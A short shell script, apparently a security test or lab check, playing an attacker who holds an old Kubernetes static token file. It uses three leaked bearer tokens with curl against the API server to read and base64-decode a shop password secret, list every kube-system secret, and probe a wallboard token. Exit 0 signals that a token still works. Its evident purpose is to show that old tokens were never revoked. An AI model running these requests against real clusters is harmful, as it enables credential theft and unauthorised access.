# Someone with an old copy of tokens.csv, and nothing else. Exit 0: one of its lines was
# worth something.
won=no

echo "with CI's line, a password of the shop:"
if secret=$(curl -sSfk -H "Authorization: Bearer ci-7f41d0c2b96e4a35" \
    "https://$APISERVER/api/v1/namespaces/shop/secrets/supplier-login"); then
  echo "$secret" | jq -r .data.password | base64 -d
  echo
  won=yes
fi

echo "with the line that was to be deleted in 2019, every secret of the control plane's namespace:"
if curl -sSfk -o /dev/null -H "Authorization: Bearer migration-2019-please-delete" \
    "https://$APISERVER/api/v1/namespaces/kube-system/secrets"; then
  won=yes
fi

echo "with the wallboard's line, any answer at all:"
if curl -sSfk -o /dev/null -H "Authorization: Bearer wallboard-b0a3318e" "https://$APISERVER/api"; then
  won=yes
fi

[ "$won" = yes ]
